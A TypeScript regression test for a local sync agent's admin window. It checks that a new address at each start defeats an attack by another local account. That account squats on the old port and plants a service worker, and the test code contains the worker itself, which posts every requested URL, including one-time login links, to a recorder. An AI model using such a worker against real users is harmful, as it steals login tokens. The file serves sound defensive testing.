import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { after, describe, it } from 'node:test';
import { launchBrowser } from '../helpers/browser';
import { freePort, REPO_ROOT, startChildAgent, writeConfig } from '../helpers/child-agent';
import { tempDir } from '../helpers/fixtures';
import { reachableByNobody } from '../helpers/second-user';

/**
 * In real Chromium: another account on the PC (nobody) listens on the status window's address while
 * the agent is stopped. The window's open tab reloads there, and nobody's page registers a service
 * worker for that origin, which reports every request it sees to nobody's recorder. The agent starts
 * again and the manager opens a new login link in the same browser.
 *
 * With the window at 127.0.0.1 at every start (admin.newAddressEachStart false), the service worker is
 * in control of the new link's page and reports its one-time code: the attack this guards against,
 * shown working so that the default's result means something. By default the window has a new
 * address at each start: the new page has no service worker and nobody's recorder hears nothing.
 */

const CLI = path.join(REPO_ROOT, 'bin', 'pos-sync-agent.cjs');

/** nobody's page and service worker; the worker posts each URL it is asked for to RECORDER. */
const SQUATTER = `
const http = require('node:http');
const [host, port, recorder] = process.argv.slice(2);
const worker = "self.addEventListener('install', () => self.skipWaiting());" +
  "self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));" +
  "self.addEventListener('fetch', (e) => { fetch(" + JSON.stringify(recorder) + ", { method: 'POST', mode: 'no-cors', body: e.request.url }).catch(() => {}); e.respondWith(fetch(e.request)); });";
http.createServer((req, res) => {
  if (req.url === '/sw.js') {
    res.writeHead(200, { 'content-type': 'text/javascript', 'cache-control': 'no-store' });
    res.end(worker);
    return;
  }
  res.writeHead(200, { 'content-type': 'text/html', 'cache-control': 'no-store' });
  res.end('<!doctype html><title>waiting</title><script>navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready).then(() => { document.title = "registered"; });</script>');
}).listen(Number(port), host, () => process.stdout.write('listening\\n'));
`;

function adminUrl(config: string): string {
  const r = spawnSync(process.execPath, [CLI, 'admin-url', '--config', config], { encoding: 'utf8', timeout: 60_000 });
  assert.equal(r.status, 0, r.stderr);
  return /(http:\/\/\S+\?login=\S+)/.exec(r.stdout)![1]!;
}

/** Records every body POSTed to it: what nobody's service worker reports. */
async function startRecorder(): Promise<{ url: string; heard: string[] }> {
  const heard: string[] = [];
  const server = http.createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString('utf8')));
    req.on('end', () => {
      heard.push(body);
      res.end();
    });
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  after(() => server.close());
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, heard };
}

/** nobody listens at `origin` and serves the page and worker above until stopped. */
async function squat(origin: string, recorder: string): Promise<() => Promise<void>> {
  const dir = tempDir();
  fs.chmodSync(dir, 0o755);
  const script = path.join(dir, 'squatter.cjs');
  fs.writeFileSync(script, SQUATTER, { mode: 0o644 });
  fs.chmodSync(script, 0o644);
  const url = new URL(origin);
  const child = spawn('setpriv', ['--reuid=nobody', '--regid=nogroup', '--clear-groups', reachableByNobody(process.execPath), script, url.hostname, url.port, recorder], { cwd: '/', stdio: ['ignore', 'pipe', 'inherit'] });
  let out = '';
  child.stdout!.on('data', (c: Buffer) => (out += c.toString('utf8')));
  while (!out.includes('listening')) await once(child.stdout!, 'data');
  return async () => {
    child.kill('SIGKILL');
    await once(child, 'exit');
  };
}

async function plantThenLogIn(newAddressEachStart: boolean): Promise<{ heard: string[]; before: string; after: string; controlled: boolean; loggedIn: boolean }> {
  const dir = tempDir();
  const config = writeConfig(dir, { dataDir: path.join(dir, 'data'), webhook: { port: 0 }, admin: { port: await freePort(), newAddressEachStart } });
  const recorder = await startRecorder();
  const { context } = await launchBrowser();
  const page = await context.newPage();
  let agent = await startChildAgent(config);
  let before: string;
  try {
    const link = adminUrl(config);
    before = new URL(link).origin;
    await page.goto(link);
    await page.locator('#summary-label').waitFor();
  } finally {
    await agent.kill('SIGTERM');
  }
  // The agent is stopped: nobody takes its address, and the open tab reloads into nobody's page.
  const stop = await squat(before, recorder.url);
  try {
    await page.goto(before);
    await page.waitForFunction('document.title === "registered"', undefined, { timeout: 20_000 });
  } finally {
    await stop();
  }
  assert.equal(await page.evaluate('navigator.serviceWorker.getRegistrations().then((r) => r.length)'), 1, 'no service worker was planted: this test proves nothing');
  recorder.heard.length = 0;
  agent = await startChildAgent(config);
  try {
    const link = adminUrl(config);
    const fresh = await context.newPage();
    await fresh.goto(link);
    await fresh.locator('#summary-label, .login-error, h1').first().waitFor({ timeout: 20_000 });
    const controlled = (await fresh.evaluate('navigator.serviceWorker.controller !== null')) as boolean;
    const loggedIn = await fresh.locator('#summary-label').isVisible();
    // Whatever the worker reports reaches the recorder within moments.
    await new Promise((r) => setTimeout(r, 1_000));
    return { heard: [...recorder.heard], before, after: new URL(link).origin, controlled, loggedIn };
  } finally {
    await agent.kill('SIGTERM');
  }
}

describe('a service worker planted in the window\'s origin while the agent is stopped, in Chromium', { timeout: 240_000 }, () => {
  it('with the window at 127.0.0.1 at every start, it reads the next login link', async () => {
    const r = await plantThenLogIn(false);
    assert.equal(r.after, r.before);
    assert.equal(r.controlled, true);
    assert.ok(r.heard.some((url) => url.includes('login=')), `the planted worker did not see the login link: ${JSON.stringify(r.heard)}`);
  });

  it('by default the window starts at a new address: no planted worker, nothing heard, and the link logs in', async () => {
    const r = await plantThenLogIn(true);
    assert.notEqual(r.after, r.before);
    assert.equal(r.controlled, false);
    assert.deepEqual(r.heard, []);
    assert.equal(r.loggedIn, true);
  });
});
